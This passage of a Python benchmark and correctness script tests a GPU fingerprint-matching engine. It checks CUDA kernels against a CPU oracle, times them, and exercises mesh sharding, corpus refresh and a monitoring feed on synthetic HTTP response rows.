    lines = stub.output.decode().splitlines()
    if len(lines) != len(dicts):
        raise AssertionError(f"{len(lines)} lines for {len(dicts)} rows")
    if lines[:256] != twin.decode().splitlines():
        raise AssertionError("cuda output differs from the CPU run")
    rows = port_rows(dicts)
    for i in range(0, len(rows), 97):
        ids, ext = [], {}
        for tpl in templates:
            res = cpu_ref.match_template(tpl, rows[i])
            if res.matched:
                ids.append(tpl.id)
                if res.extractions:
                    ext[tpl.id] = res.extractions
        if lines[i] != format_match_line(rows[i], RowMatches(ids, ext)):
            raise AssertionError(f"line {i} differs from the oracle")
    missing = [k for k in MATCH_KERNELS if launches[k] < 1]
    if missing:
        raise AssertionError(f"match kernels not launched on the main path: {missing}")
    emit({
        "phase": "fingerprint_worker", "status": stub.statuses[-1], "route": route,
        "rows": len(dicts), "lines": len(lines), "seconds": seconds,
        "rows_with_hits": sum('"matches": []' not in ln for ln in lines),
        "launches": launches, "cpu_twin_identical_rows": 256,
    })
    return launches, calls


def idle_call(name: str, args: tuple) -> tuple:
    """A recorded phase A or verify call with no live work: the same
    streams with every length 0, or the same candidates all -1."""
    import torch

    from swarm_tpu_torch.ops import kernels

    if name == "match_phase_a":
        views, qs, cs = args[:3]
        empty = kernels.MatchTables([kernels.StreamView(v.data, torch.zeros_like(v.lengths),
                                                        v.lowered) for v in views], qs, cs,
                                    *args[6:9])
        return (empty, qs, cs, *args[3:])
    return (*args[:3], torch.full_like(args[3], -1), *args[4:])


def phase_match_timing(calls: list, smi: str, md5_calls: list) -> dict:
    """Each match kernel on the exact calls the ``fingerprint`` job made
    (``kernels.record_calls`` around the worker run: its batches as the
    worker's engine deduplicated and encoded them): exact against its
    plain version, then timed (:func:`kernel_timing`); ``match_md5``
    also on the pipelined stream's calls (``md5_calls``,
    :func:`stream_md5_calls`), exact and timed, under ``"stream"``."""
    max_err = check_calls(calls)
    max_err["match_md5"] = max(max_err["match_md5"], check_calls(md5_calls)["match_md5"])
    clock_hz = sm_clock_hz()
    timing = kernel_timing(calls, MATCH_KERNELS, clock_hz)
    timing["match_md5"]["stream"] = md5_stream_timing(md5_calls, clock_hz)
    emit({"phase": "match_timing", "exact": True, "timing": timing, "sm_clock_hz": clock_hz,
          "card": smi})
    return timing, max_err


def md5_stream_timing(md5_calls: list, clock_hz: float) -> dict:
    """``match_md5`` on the stream's recorded calls: ms a call through
    the wrapper and on the card alone beside the latency bound, means
    over the calls (the plain version's time is the job's calls')."""
    from swarm_tpu_torch.ops import kernels

    per = []
    for _name, args in md5_calls:
        blocks = md5_blocks(args[0], args[1])
        per.append({
            "rows": int(args[0].shape[0]), "width": int(args[0].shape[1]),
            "max_blocks": int(blocks.max()),
            "ms": cuda_ms(lambda a=args: kernels.match_md5(*a), 10),
            "card_ms": card_ms(lambda a=args: kernels.match_md5(*a), 10, clock_hz),
            "latency_bound_ms": int(blocks.max()) * 64 * MD5_CHAIN_OPS * DEPENDENT_OP_CYCLES
            / clock_hz * 1e3,
        })
    return {**{k: sum(p[k] for p in per) / len(per)
               for k in ("ms", "card_ms", "latency_bound_ms")}, "calls": per}


def kernel_timing(calls: list, names: tuple, clock_hz: float) -> dict:
    """Each kernel of ``names`` on its recorded ``calls``: ms per call
    (CUDA events around the wrapper's calls, and on the card alone,
    :func:`card_ms`) beside its plain version's, and its bound from
    each call's data, all averaged over the calls; for the regex scan
    also its card time with no live pair, for phase A and the verify
    with no live work, and for the verdict lowering each of its two
    launches' card time (:func:`verdict_split_ms`). → {name: timing}."""
    split = "match_verdicts" in names
    import torch

    from swarm_tpu_torch.ops import kernels

    plain = plain_versions()
    timing = {}
    for name in names:
        per = []
        for call_name, args in calls:
            if call_name != name:
                continue
            nbytes, ops = kernel_work(name, args)
            t_bytes = nbytes / HBM_BYTES_PER_S * 1e3
            t_ops = ops / SCALAR_OPS_PER_S * 1e3
            shape = _call_shape(name, args)
            if name == "match_md5":
                # one thread a row: the longest row's dependent rounds
                shape["latency_ms"] = (shape["max_blocks"] * 64 * MD5_CHAIN_OPS
                                       * DEPENDENT_OP_CYCLES / clock_hz * 1e3)
            if name == "match_regex_scan":
                # one lane a pair runs the recurrence: the longest live
                # pair's bytes, each a dependent chain
                chain = REGEX_CHAIN_OPS + REGEX_CLOSURE_OPS * shape["r_closure"]
                shape["latency_ms"] = (shape["max_pair_len"] * chain * DEPENDENT_OP_CYCLES
                                       / clock_hz * 1e3)
            per.append({
                **shape,
                "ms": cuda_ms(lambda a=args: getattr(kernels, name)(*a), 10),
                "card_ms": card_ms(lambda a=args: getattr(kernels, name)(*a), 10, clock_hz),
                "plain_ms": cuda_ms(lambda a=args: plain[name](*a), 2),
                **(verdict_split_ms(args, clock_hz) if name == "match_verdicts" else {}),
                "bytes": nbytes, "operations": ops,
                "bytes_ms": t_bytes, "operations_ms": t_ops,
            })
            if name == "match_regex_scan":
                # the launch and the pass over the K pairs with none
                # live: what the call costs besides the scans
                idle = (*args[:3], torch.zeros_like(args[3]), *args[4:])
                per[-1]["no_live_pair_card_ms"] = card_ms(
                    lambda a=idle: kernels.match_regex_scan(*a), 10, clock_hz)
            if name in ("match_phase_a", "match_verify"):
                # the launch and the walk with no live work: every row
                # empty (phase A), every candidate -1 (the verify)
                per[-1]["no_live_work_card_ms"] = card_ms(
                    lambda a=idle_call(name, args): getattr(kernels, name)(*a), 10, clock_hz)
        if not per:
            raise AssertionError(f"no recorded call of {name}")
        keys = ("ms", "card_ms", "plain_ms", "bytes_ms", "operations_ms",
                *(("pack_card_ms", "eval_card_ms") if split and name == "match_verdicts" else ()),
                *(("no_live_work_card_ms",) if "no_live_work_card_ms" in per[0] else ()),
                *(("no_live_pair_card_ms",) if "no_live_pair_card_ms" in per[0] else ()))
        mean = {k: sum(p[k] for p in per) / len(per) for k in keys}
        timing[name] = {
            **{k: mean[k] for k in keys if k not in ("bytes_ms", "operations_ms")},
            "bound_ms": sum(max(p["bytes_ms"], p["operations_ms"]) for p in per) / len(per),
            "bound_by": "operations" if mean["operations_ms"] >= mean["bytes_ms"] else "bytes",
            "calls": per,
        }
        if "latency_ms" in per[0]:
            timing[name]["latency_bound_ms"] = sum(p["latency_ms"] for p in per) / len(per)
    return timing


#: the grids of the mesh phase: (data, model, seq)
MESH_GRIDS = ((1, 1, 1), (2, 1, 1), (1, 2, 1), (1, 1, 2), (2, 2, 2))
#: timed ``MatchEngine.match`` calls of each grid, memos cleared before each
MESH_CALLS = 3
#: rows of the pipelined stream through a (2, 1, 1) engine
MESH_STREAM_ROWS = 4096
#: the device type the mesh phase puts its ranks on
MESH_DEVICE = "cuda"


def mesh_devices(k: int) -> list:
    """``k`` ranks' devices: the distinct cards, in turn, when there are
    several; else one card ``k`` times."""
    import torch

    if MESH_DEVICE != "cuda":
        return [MESH_DEVICE] * k
    n = torch.cuda.device_count()
    return [f"cuda:{i % n}" for i in range(k)] if n > 1 else ["cuda:0"] * k


def _same_results(got, want) -> bool:
    return len(got) == len(want) and all(
        sorted(a.template_ids) == sorted(b.template_ids) and a.extractions == b.extractions
        for a, b in zip(got, want))


def phase_mesh(templates, plants, db, smi: str) -> dict:
    """``parallel/`` on the card: the worker's engine at full width
    (``synthetic_corpus(0)``, batch_rows 1,024, max_body 4,096) over a
    ``make_mesh`` of each grid of :data:`MESH_GRIDS` (one card ``k``
    times, or the distinct cards), 2,048 ``realistic_rows``:

    - each device batch of the engine (its mesh encode: per-rank
      placement, seq padding) through ``ShardedMatcher.match``, its
      planes exactly equal to the same batch through the single-device
      ``DeviceDB``, and every kernel call it made exact against its
      plain version (the seq grids' phase A and verify calls carry
      halos);
    - ``MatchEngine.match`` of the rows equal to the single-device
      engine's, its launches, and ms a call over :data:`MESH_CALLS`
      fresh calls;
    - the seq-halo calls of phase A and the verify on the (2, 2, 2)
      grid timed as the job's calls are (:func:`kernel_timing`);
    - a pipelined stream of 4,096 rows through a (2, 1, 1) engine: equal
      to the direct engine, two batches in flight, the deferred combines
      overlapped.
    → {"launches": {grid: launches}, "halo": timing, "max_err": by kernel}."""
    import torch

    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.ops.engine import MatchEngine
    from swarm_tpu_torch.ops.match import DeviceDB
    from swarm_tpu_torch.parallel.mesh import make_mesh
    from swarm_tpu_torch.telemetry import REGISTRY
    from swarm_tpu_torch.telemetry.metrics import parse_exposition

    def overlapped() -> float:
        return next(v for n, _lab, v in parse_exposition(REGISTRY.render())
                    if n == "swarm_shard_overlapped_dispatches_total")

    t_phase = time.perf_counter()
    rows = port_rows(realistic_rows(JOB_ROWS, seed=19, plants=plants))
    direct = MatchEngine(templates, db=db, device=MESH_DEVICE, mesh=None)
    want = direct.match(rows)
    single = DeviceDB(db, device=MESH_DEVICE)
    max_err = {k: 0.0 for k in MATCH_KERNELS}
    grids: dict = {}
    halo_calls: list = []
    for shape in MESH_GRIDS:
        label = "x".join(map(str, shape))
        k = shape[0] * shape[1] * shape[2]
        mesh = make_mesh(shape, mesh_devices(k))
        t0 = time.perf_counter()
        eng = MatchEngine(templates, db=db, device=MESH_DEVICE, mesh=mesh)
        build_s = time.perf_counter() - t0
        batches = []
        for s in range(0, len(rows), eng.batch_rows):
            pre = eng.encode_packed(rows[s:s + eng.batch_rows])
            batch = pre[1]
            with kernels.record_calls() as calls:
                got = eng.sharded.match(batch.streams, batch.lengths, batch.status)
            ref = single.match(batch.streams, batch.lengths, batch.status)
            if not all(np.array_equal(a, b) for a, b in zip(got[:6], ref[:6])) or (
                    (got[6] is None) != (ref[6] is None)) or not all(
                    np.array_equal(a, b) for a, b in zip(got[6] or (), ref[6] or ())):
                raise AssertionError(f"{label}: the mesh's planes differ from DeviceDB's")
            err = check_calls(calls)
            for name, e in err.items():
                max_err[name] = max(max_err[name], e)
            halo = [(n, a) for n, a in calls
                    if n in ("match_phase_a", "match_verify") and a[-3] > 0]
            if shape[2] > 1 and len(halo) != 2 * k:
                raise AssertionError(f"{label}: {len(halo)} halo calls for {k} ranks")
            if shape == (2, 2, 2):
                halo_calls += halo
            batches.append({"rows": int(batch.status.shape[0]),
                            "widths": {n: int(v.shape[1]) for n, v in batch.streams.items()},
                            "calls": len(calls), "halo_calls": len(halo),
                            **eng.sharded.last_compact})
        kernels.reset_launches()
        eng.clear_content_memos()
        got = eng.match(rows)
        if not _same_results(got, want):
            raise AssertionError(f"{label}: the mesh engine's results differ from one device's")
        launches = dict(kernels.LAUNCHES)
        if any(launches[n] < 1 for n in MATCH_KERNELS):
            raise AssertionError(f"{label}: a match kernel was not launched: {launches}")
        ms = []
        for _ in range(MESH_CALLS):
            eng.clear_content_memos()
            t0 = time.perf_counter()
            eng.match(rows)
            if MESH_DEVICE == "cuda":
                torch.cuda.synchronize()
            ms.append((time.perf_counter() - t0) * 1e3)
        grids[label] = {"devices": sorted({str(d) for d in mesh.devices.flat}),
                        "ranks": k, "halo": eng.sharded.halo, "build_s": build_s,
                        "batches": batches, "launches": launches,
                        "ms_per_call": sorted(ms)[len(ms) // 2], "ms_calls": ms,
                        "rows_per_s": len(rows) / (sorted(ms)[len(ms) // 2] / 1e3),
                        "planes_exact": True}
        del eng
    # the pipelined stream through a (2, 1, 1) mesh engine
    stream = port_rows(realistic_rows(MESH_STREAM_ROWS, seed=23, plants=plants))
    want = direct.match(stream)
    mesh = make_mesh((2, 1, 1), mesh_devices(2))
    eng = MatchEngine(templates, db=db, device=MESH_DEVICE, mesh=mesh, pipeline="on")
    before = overlapped()
    t0 = time.perf_counter()
    got = eng.match(stream)
    stream_s = time.perf_counter() - t0
    st = eng.scheduler().stats
    n_overlapped = overlapped() - before
    if not _same_results(got, want):
        raise AssertionError("the pipelined mesh engine's results differ from the direct engine's")
    if st.max_inflight < 2 or n_overlapped < 1:
        raise AssertionError(f"no overlap on the mesh: inflight {st.max_inflight}, "
                             f"overlapped {n_overlapped}")
    halo = kernel_timing(halo_calls, ("match_phase_a", "match_verify"), sm_clock_hz())
    emit({"phase": "mesh", "rows": len(rows), "grids": grids,
          "pipelined_2x1x1": {"rows": len(stream), "seconds": stream_s,
                              "rows_per_s": len(stream) / stream_s,
                              "max_inflight": st.max_inflight,
                              "device_batches": st.device_batches,
                              "overlapped_dispatches": n_overlapped, "exact": True},
          "halo_timing_2x2x2": {n: {k: v for k, v in t.items() if k != "calls"}
                                for n, t in halo.items()},
          "max_abs_err": max_err, "seconds": time.perf_counter() - t_phase, "card": smi})
    return {"launches": {g: v["launches"] for g, v in grids.items()}, "halo": halo,
            "max_err": max_err}


#: the device of the refresh phase's engines
REFRESH_DEVICE = "cuda"
#: the word the refresh phase's added template matches
REFRESH_NEEDLE = "refresh-probe-needle-7f3a"


def _sync(device) -> None:
    import torch

    if torch.device(device).type == "cuda":
        torch.cuda.synchronize()


def refresh_steps(templates: list, plants: list) -> tuple:
    """The refresh phase's corpora, each from the one before: ``add`` (one
    new word template), ``remove`` (one corpus template), ``edit`` (one
    word of another corpus template changed), ``noop`` (the same list);
    and the rows that tell them apart: the new template's word, the
    removed template's fragments, the edited template's old and new
    word. → ([(step, templates), ...], rows)."""
    import copy

    from swarm_tpu_torch.fingerprints.nuclei import parse_template

    single = [i for i, t in enumerate(templates)
              if len(t.operations) == 1 and len(t.operations[0].matchers) == 1
              and t.operations[0].matchers[0].type == "word"
              and t.operations[0].matchers[0].part == "body"
              and t.operations[0].matchers[0].condition == "or"
              and not t.operations[0].matchers[0].negative]
    edit_i, remove_i = single[0], single[1]
    probe = parse_template({
        "id": "refresh-probe", "info": {"name": "refresh probe", "severity": "info"},
        "http": [{"method": "GET", "path": ["{{BaseURL}}"], "matchers": [
            {"type": "word", "words": [REFRESH_NEEDLE], "part": "body"}]}]})
    added = list(templates) + [probe]
    removed_id = templates[remove_i].id
    removed = [t for t in added if t.id != removed_id]
    edited_t = copy.deepcopy(templates[edit_i])
    old_word = edited_t.operations[0].matchers[0].words[0]
    new_word = old_word + " refreshed"
    edited_t.operations[0].matchers[0].words = [new_word]
    edited = [edited_t if t.id == edited_t.id else t for t in removed]
    extra = [
        {"host": "198.51.100.1", "port": 80, "status": 200,
         "body": f"<html>{REFRESH_NEEDLE}</html>".encode(), "header": b"HTTP/1.1 200 OK"},
        {"host": "198.51.100.2", "port": 80, "status": 200,
         "body": " ".join(plants[remove_i]["body"]).encode(), "header": b"HTTP/1.1 200 OK"},
        {"host": "198.51.100.3", "port": 80, "status": 200,
         "body": f"<html>{old_word}</html>".encode(), "header": b"HTTP/1.1 200 OK"},
        {"host": "198.51.100.4", "port": 80, "status": 200,
         "body": f"<html>{new_word}</html>".encode(), "header": b"HTTP/1.1 200 OK"},
    ]
    rows = realistic_rows(JOB_ROWS, seed=29, plants=plants)[:JOB_ROWS - len(extra)] + extra
    steps = [("add", added), ("remove", removed), ("edit", edited), ("noop", list(edited))]
    return steps, port_rows(rows)


def fresh_engine(templates: list, device) -> tuple:
    """A fresh engine over ``templates`` as the worker builds one, and
    the seconds of its compile, layout and upload."""
    from swarm_tpu_torch.fingerprints import compile as fpc
    from swarm_tpu_torch.ops.engine import MatchEngine

    t0 = time.perf_counter()
    db = fpc.compile_corpus(templates)
    t1 = time.perf_counter()
    fpc.build_device_layout(db)
    t2 = time.perf_counter()
    eng = MatchEngine(templates, db=db, device=device, mesh=None)
    eng.device._ensure_layout()
    _sync(device)
    t3 = time.perf_counter()
    return eng, {"compile_s": t1 - t0, "layout_s": t2 - t1, "upload_s": t3 - t2,
                 "total_s": t3 - t0}


def timed_match(eng, rows, device) -> tuple:
    """One fresh ``MatchEngine.match`` (memos cleared) with its kernel
    calls recorded and its launches counted → (results, ms, calls,
    launches)."""
    from swarm_tpu_torch.ops import kernels

    eng.clear_content_memos()
    _sync(device)
    kernels.reset_launches()
    with kernels.record_calls() as calls:
        t0 = time.perf_counter()
        got = eng.match(rows)
        _sync(device)
        ms = (time.perf_counter() - t0) * 1e3
    return got, ms, calls, dict(kernels.LAUNCHES)


def phase_refresh(templates, plants, db, smi: str) -> dict:
    """The corpus-delta refresh (``MatchEngine.refresh_corpus``) at full
    width: the worker's engine over ``synthetic_corpus(0)`` (3,989
    templates), 2,048 ``realistic_rows`` plus the rows of
    :func:`refresh_steps`, refreshed in turn with one template added, one
    removed, one word edited, and a no-op. For each refresh: its seconds
    beside a fresh engine's compile, layout and upload seconds, the
    layout leaves uploaded and reused and their bytes; the next batch's
    ms beside the batch before the refresh, its results exactly a fresh
    engine's on the new corpus, every recorded kernel call exact against
    its plain version, every match kernel launched. The no-op uploads no
    leaf and keeps the kernels' corpus structs (the ``VerifyCorpus`` and
    ``VerdictLayout`` objects). Then a refresh on the (2,2,2) grid of one
    card, and one between two quiesced pipelined streams, each exact.
    → {"launches": launches of the last step's batch, "max_err": by kernel}."""
    from swarm_tpu_torch.ops.engine import MatchEngine
    from swarm_tpu_torch.parallel.mesh import make_mesh

    dev = REFRESH_DEVICE
    t_phase = time.perf_counter()
    steps, rows = refresh_steps(templates, plants)
    eng = MatchEngine(templates, db=db, device=dev)
    timed_match(eng, rows, dev)  # warm
    max_err = {k: 0.0 for k in MATCH_KERNELS}
    out, fresh = [], {}
    launches = {}
    for step, new in steps:
        _got, before_ms, _c, _l = timed_match(eng, rows, dev)
        _meta, arrays = eng.device._ensure_layout()
        structs = (arrays["verify"], arrays["verdict"], arrays["verdict"].struct)
        t0 = time.perf_counter()
        stats = eng.refresh_corpus(new)
        _sync(dev)
        refresh_s = time.perf_counter() - t0
        fresh[step], fresh_s = fresh_engine(new, dev)
        want = fresh[step].match(rows)
        got, after_ms, calls, launches = timed_match(eng, rows, dev)
        if not _same_results(got, want):
            raise AssertionError(f"refresh {step}: results differ from a fresh engine's")
        err = check_calls(calls)
        for name, e in err.items():
            max_err[name] = max(max_err[name], e)
        if any(launches[n] < 1 for n in MATCH_KERNELS):
            raise AssertionError(f"refresh {step}: a match kernel was not launched: {launches}")
        _meta, arrays = eng.device._ensure_layout()
        kept = all(a is b for a, b in zip(
            (arrays["verify"], arrays["verdict"], arrays["verdict"].struct), structs))
        if step == "noop" and (stats["uploaded_leaves"] or not stats["executables_kept"]
                               or not kept):
            raise AssertionError(f"the no-op refresh moved something: {stats}, kept {kept}")
        out.append({"step": step, "templates": len(new), "refresh_s": refresh_s,
                    "fresh_engine": fresh_s,
                    **{k: stats[k] for k in ("uploaded_leaves", "reused_leaves",
                                             "uploaded_bytes", "reused_bytes",
                                             "executables_kept", "leaves_total",
                                             "tables_rebuilt", "rows_rebuilt")},
                    "structs_kept": kept, "before_ms": before_ms, "after_ms": after_ms,
                    "matched_rows": sum(bool(r.template_ids) for r in got),
                    "exact": True, "calls": len(calls), "launches": launches})
    # the (2, 2, 2) grid of the one card, refreshed onto the added corpus
    mesh_eng = MatchEngine(templates, db=db, device=dev, mesh=make_mesh((2, 2, 2),
                                                                       mesh_devices(8)))
    timed_match(mesh_eng, rows, dev)
    t0 = time.perf_counter()
    stats = mesh_eng.refresh_corpus(steps[0][1])
    _sync(dev)
    grid_s = time.perf_counter() - t0
    got, grid_ms, calls, grid_launches = timed_match(mesh_eng, rows, dev)
    if not _same_results(got, fresh["add"].match(rows)):
        raise AssertionError("refresh on the (2,2,2) grid: results differ from a fresh engine's")
    for name, e in check_calls(calls).items():
        max_err[name] = max(max_err[name], e)
    grid = {"refresh_s": grid_s, "halo": mesh_eng.sharded.halo, "ms": grid_ms,
            "sharded": stats["sharded"], "exact": True, "launches": grid_launches}
    del mesh_eng
    # between two quiesced pipelined streams
    s1 = port_rows(realistic_rows(JOB_ROWS, seed=31, plants=plants))
    s2 = rows
    base = MatchEngine(templates, db=db, device=dev, mesh=None)
    piped = MatchEngine(templates, db=db, device=dev, pipeline="on")
    got1 = piped.match(s1)  # returns with nothing in flight: quiesced
    t0 = time.perf_counter()
    piped.refresh_corpus(steps[0][1])
    _sync(dev)
    piped_s = time.perf_counter() - t0
    got2 = piped.match(s2)
    if not (_same_results(got1, base.match(s1)) and _same_results(got2, fresh["add"].match(s2))):
        raise AssertionError("refresh between pipelined streams: results differ")
    emit({"phase": "refresh", "rows": len(rows), "device": str(dev), "steps": out,
          "grid_2x2x2": grid, "pipelined": {"rows": [len(s1), len(s2)], "refresh_s": piped_s,
                                            "max_inflight": piped.scheduler().stats.max_inflight,
                                            "exact": True},
          "max_abs_err": max_err, "seconds": time.perf_counter() - t_phase, "card": smi})
    return {"launches": launches, "max_err": max_err}


#: the device of the monitor phase (the CPU only to rehearse it)
MONITOR_DEVICE = "cuda"
#: the standing spec's chunks, its epochs with changes, and the targets
#: changed in each of them (5%)
MONITOR_CHUNKS = 8
MONITOR_EPOCHS = 4
MONITOR_CHANGED = JOB_ROWS * 5 // 100
MONITOR_ID = "chipmon"
#: the host processes that compute the oracle's lines
ORACLE_PROCESSES = 8


def monitor_epochs(plants: list) -> list:
    """The rows of each epoch: 2,048 ``realistic_rows`` (seed 11), each
    host its own; from epoch 2 on, the next 102 rows in turn answer
    anew (another ``realistic_rows`` row, marked with the epoch, under
    the same host and port); the last epoch repeats the one before
    unchanged. → [rows of epoch 1, ...]."""
    base = realistic_rows(JOB_ROWS, seed=11, plants=plants)
    for i, d in enumerate(base):
        d["host"] = f"198.18.{i // 256}.{i % 256}"
    epochs = [base]
    for k in range(2, MONITOR_EPOCHS + 1):
        rows = list(epochs[-1])
        fresh = realistic_rows(MONITOR_CHANGED, seed=100 + k, plants=plants)
        for j, f in enumerate(fresh):
            i = ((k - 2) * MONITOR_CHANGED + j) % JOB_ROWS
            rows[i] = {**f, "host": rows[i]["host"], "port": rows[i]["port"],
                       "body": f["body"] + b"<!-- epoch %d -->" % k}
        epochs.append(rows)
    epochs.append(epochs[-1])
    return epochs


_ORACLE_TEMPLATES: list = []


def _oracle_init() -> None:
    from swarm_tpu_torch.fingerprints.nuclei import parse_template

    _ORACLE_TEMPLATES[:] = [parse_template(d) for d in synthetic_corpus(0)[0]]


def _oracle_lines(dicts: list) -> list:
    """The CPU oracle's output line of each row (``cpu_ref`` against
    every template of the match corpus), in a host process."""
    from swarm_tpu_torch.ops import cpu_ref
    from swarm_tpu_torch.ops.engine import RowMatches
    from swarm_tpu_torch.worker.modules import format_match_line

    out = []
    for row in port_rows(dicts):
        ids, ext = [], {}
        for tpl in _ORACLE_TEMPLATES:
            res = cpu_ref.match_template(tpl, row)
            if res.matched:
                ids.append(tpl.id)
                if res.extractions:
                    ext[tpl.id] = res.extractions
        out.append(format_match_line(row, RowMatches(ids, ext)))
    return out


def oracle_lines(dicts: list) -> list:
    """:func:`_oracle_lines` of every row, split over
    ``ORACLE_PROCESSES`` spawned processes (each parses the corpus
    itself); all of them are joined before this returns."""
    import multiprocessing
    from concurrent.futures import ProcessPoolExecutor

    n = max(1, min(ORACLE_PROCESSES, len(dicts)))
    parts = [dicts[i::n] for i in range(n)]
    with ProcessPoolExecutor(n, mp_context=multiprocessing.get_context("spawn"),
                             initializer=_oracle_init) as pool:
        done = list(pool.map(_oracle_lines, parts))
    lines = [None] * len(dicts)
    for i, part in enumerate(done):
        lines[i::n] = part
    return lines


def monitor_replay(blobs, monitor_id: str, outputs_of=None) -> bytes:
    """Brute-force replay of a monitor's whole feed: for every marked
    epoch, the epoch scan's stored chunk inputs and outputs (or
    ``outputs_of(scan_id, chunks)``) re-read from the blob store and
    diffed over the replayed prior plane → the records' bytes."""
    from swarm_tpu_torch.datamodel import chunk_input_key, chunk_output_key
    from swarm_tpu_torch.monitor import feed as mfeed
    from swarm_tpu_torch.monitor.diff import diff_epoch, encode_record, extract_verdicts

    plane: dict = {}
    out = []
    seq = 0
    for epoch in mfeed.marked_epochs(blobs, monitor_id):
        sid = json.loads(blobs.get(mfeed.mark_key(monitor_id, epoch)))["scan_id"]
        chunks = []
        while blobs.exists(chunk_input_key(sid, len(chunks))):
            raw = blobs.get(chunk_input_key(sid, len(chunks)))
            chunks.append(raw.decode("utf-8", "surrogateescape").split("\n"))
        if outputs_of is None:
            outputs = {j: blobs.get(chunk_output_key(sid, j)) for j in range(len(chunks))
                       if blobs.exists(chunk_output_key(sid, j))}
        else:
            outputs = outputs_of(sid, chunks)
        records, plane = diff_epoch(monitor_id, epoch, plane, extract_verdicts(chunks, outputs),
                                    [t for c in chunks for t in c], seq)
        seq += len(records)
        out.extend(encode_record(r) for r in records)
    return b"".join(out)


def phase_monitor(templates, plants, db, smi: str) -> dict:
    """The monitor lane at the port's job width (``docs/MONITORING.md``
    §Cost model, ``bench.py --phase monitor``'s shape: a standing spec,
    4 epochs, 5% of the targets changed in each): one spec over
    :func:`monitor_epochs`' 2,048 ``jsonl`` targets in 8 chunks of 256
    on the match corpus, every chunk a ``fingerprint`` job of the port's
    worker on ``cuda`` through the stand-in server. Each epoch's outputs
    go into a memory ``BlobStore`` under the epoch scan's keys; then, as
    ``MonitorService._commit_epoch`` does, ``extract_verdicts``,
    ``diff_epoch`` against the prior plane from ``MonitorPlaneStore`` on
    the port's memory tier, ``write_records``, the plane stored and
    ``write_mark``. The stored feed must equal byte for byte a replay
    diff of the stored chunk outputs and one of the CPU oracle's lines
    for the same rows; epoch 1 gives 2,048 ``new`` records, each later
    epoch records only its changed targets, the repeated last epoch
    none. Every recorded match-kernel call is exact against its plain
    version and every match kernel launched. Then a listener registered
    with the port's ``monitor.notify`` gets one call, with the new
    ``corpus_digest``, from a ``refresh_corpus`` of the worker's engine.
    → {"launches": by kernel over the epochs' jobs, "max_err": by kernel}."""
    import tempfile

    from swarm_tpu_torch.cache.tier import SharedResultTier, corpus_digest
    from swarm_tpu_torch.datamodel import chunk_generator, chunk_input_key, chunk_output_key
    from swarm_tpu_torch.monitor import feed as mfeed
    from swarm_tpu_torch.monitor import notify
    from swarm_tpu_torch.monitor.diff import (MonitorPlaneStore, diff_epoch, extract_verdicts,
                                              plane_from_records)
    from swarm_tpu_torch.monitor.spec import MonitorSpec
    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.ops.engine import MatchEngine
    from swarm_tpu_torch.stores import MemoryBlobStore, MemoryStateStore
    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig

    dev = MONITOR_DEVICE
    t_phase = time.perf_counter()
    epochs = monitor_epochs(plants)
    batch = JOB_ROWS // MONITOR_CHUNKS
    blobs = MemoryBlobStore()
    planes = MonitorPlaneStore(SharedResultTier(MemoryStateStore(), MemoryBlobStore()),
                               writer_id="chip-smoke")
    spec = MonitorSpec(MONITOR_ID, "fingerprint", [], 3600.0, batch_size=batch)
    engines: dict = {}
    out, kinds_all = [], []
    # a stand-in server's close waits out its poll interval: close them
    # off the jobs' clock
    closer, closing = ThreadPoolExecutor(max_workers=MONITOR_CHUNKS), []
    saved = os.environ.get("SWARM_TEMPLATES_DIR")
    with tempfile.TemporaryDirectory() as corpus_dir:
        os.environ["SWARM_TEMPLATES_DIR"] = corpus_dir
        engines[corpus_dir] = MatchEngine(templates, db=db, device=dev)
        kernels.reset_launches()
        try:
            with kernels.record_calls() as calls:
                for k, rows in enumerate(epochs, start=1):
                    spec.targets = jsonl_rows(rows).decode().splitlines()
                    scan_id = spec.scan_id_for(k, now=1_700_000_000 + 3600 * k)
                    chunks = list(chunk_generator(spec.targets, spec.batch_size))
                    t0 = time.perf_counter()
                    for c, chunk in enumerate(chunks):
                        blob = "\n".join(chunk).encode()
                        blobs.put(chunk_input_key(scan_id, c), blob)
                        stub = StubServer(blob, module="fingerprint")
                        try:
                            cfg = WorkerConfig(
                                server_url=stub.url, api_key=API_KEY, worker_id="chip-smoke",
                                modules_dir=str(REPO / "modules"), max_jobs=1,
                                poll_interval_idle_s=0.05, poll_interval_busy_s=0.0)
                            proc = JobProcessor(cfg, device=dev,
                                                work_dir=tempfile.mkdtemp(dir=corpus_dir))
                            proc.engines = engines
                            proc.process_jobs()
                        finally:
                            closing.append(closer.submit(stub.close))
                        if stub.statuses[-1:] != ["complete"] or stub.output is None:
                            raise AssertionError(f"epoch {k} chunk {c}: {stub.statuses}")
                        blobs.put(chunk_output_key(scan_id, c), stub.output)
                    jobs_s = time.perf_counter() - t0
                    # the prior plane as a fold of the marked feed, to hold
                    # the tier's against
                    folded = plane_from_records(
                        mfeed.feed_records(blobs, MONITOR_ID, marked_only=True))
                    # the commit, as MonitorService._commit_epoch runs it
                    t0 = time.perf_counter()
                    outputs = {c: blobs.get(chunk_output_key(scan_id, c))
                               for c in range(len(chunks))}
                    verdicts = extract_verdicts(chunks, outputs)
                    loaded = planes.load(MONITOR_ID, spec.module)
                    if k > 1 and (loaded is None or loaded[1] != k - 1):
                        raise AssertionError(f"epoch {k}: no plane of epoch {k - 1} on the tier")
                    prev = loaded[0] if loaded is not None else {}
                    records, plane = diff_epoch(MONITOR_ID, k, prev, verdicts, spec.targets,
                                                mfeed.seq_base(blobs, MONITOR_ID, k))
                    mfeed.write_records(blobs, MONITOR_ID, records)
                    planes.store(MONITOR_ID, spec.module, plane,
                                 [r["target"] for r in records], k)
                    mfeed.write_mark(blobs, MONITOR_ID, k, len(records), scan_id)
                    diff_ms = (time.perf_counter() - t0) * 1e3
                    if prev != folded:
                        raise AssertionError(f"epoch {k}: the tier's plane is not the feed's")
                    kinds: dict = {}
                    for r in records:
                        kinds[r["kind"]] = kinds.get(r["kind"], 0) + 1
                    kinds_all.append((records, kinds))
                    out.append({"epoch": k, "jobs_s": jobs_s, "diff_ms": diff_ms,
                                "diff_host_ms_per_target": diff_ms / len(spec.targets),
                                "records": kinds, "targets": len(spec.targets),
                                "chunks": len(chunks)})
            launches = dict(kernels.LAUNCHES)
        finally:
            for f in closing:
                f.result()
            closer.shutdown()
            if saved is None:
                os.environ.pop("SWARM_TEMPLATES_DIR", None)
            else:
                os.environ["SWARM_TEMPLATES_DIR"] = saved
        max_err = check_calls(calls)
        del calls
